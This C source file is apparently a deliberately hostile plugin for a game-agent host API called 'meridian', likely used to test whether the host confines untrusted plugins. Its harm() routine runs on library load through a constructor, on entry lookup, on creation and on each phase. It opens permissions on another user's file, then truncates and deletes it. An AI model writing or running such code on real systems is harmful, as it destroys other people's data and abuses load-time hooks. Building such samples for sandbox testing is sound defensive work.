/* A player that does harm wherever its code is run: when it is loaded, when its entry is asked for, when it is made, when it plays.
 * VICTIM is a file of somebody else. */
#define _GNU_SOURCE
#include "meridian_ai.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static void harm(void) {
    FILE *file;
    chmod(VICTIM, 0777);
    file = fopen(VICTIM ".new", "w");
    if (file) fclose(file);
    file = fopen(VICTIM, "r");
    if (file) {
        fclose(file);
        mkdir(VICTIM ".read", 0700);
        file = fopen(VICTIM, "w");
        if (file) fclose(file);
    }
    unlink(VICTIM);
}

__attribute__((constructor)) static void loaded(void) { harm(); }

static int32_t begin_phase(meridian_agent_t *agent, const meridian_phase_input_t *input) {
    (void)agent;
    (void)input;
    harm();
    return MERIDIAN_S_DEFAULT;
}
static void destroy(meridian_agent_t *agent) { free(agent); }

static meridian_agent_t *create(const meridian_host_t *host, const char *id, const meridian_config_t *config) {
    meridian_agent_t *agent = calloc(1, sizeof *agent);
    (void)host;
    (void)id;
    (void)config;
    harm();
    agent->struct_size = sizeof *agent;
    agent->begin_phase = begin_phase;
    agent->destroy = destroy;
    return agent;
}

static const meridian_descriptor_t descriptor = {
    sizeof(meridian_descriptor_t), 0, "org.example.meddler", "meddler", "1.0.0", "", "", ""};
static uint32_t count(void) { return 1; }
static const meridian_descriptor_t *get_descriptor(uint32_t index) { return index == 0 ? &descriptor : NULL; }
static const meridian_factory_v1_t factory = {sizeof(meridian_factory_v1_t), 0, count, get_descriptor, create};
static const void *get_factory(const char *id) { return strcmp(id, MERIDIAN_FACTORY) == 0 ? &factory : NULL; }
static const meridian_entry_t entry = {
    MERIDIAN_MAGIC, MERIDIAN_ABI_MAJOR, MERIDIAN_ABI_MINOR, 0, 0, sizeof(meridian_entry_t), 0, NULL, NULL, get_factory};
MERIDIAN_EXPORT const meridian_entry_t *meridian_entry_v1(void) {
    harm();
    return &entry;
}
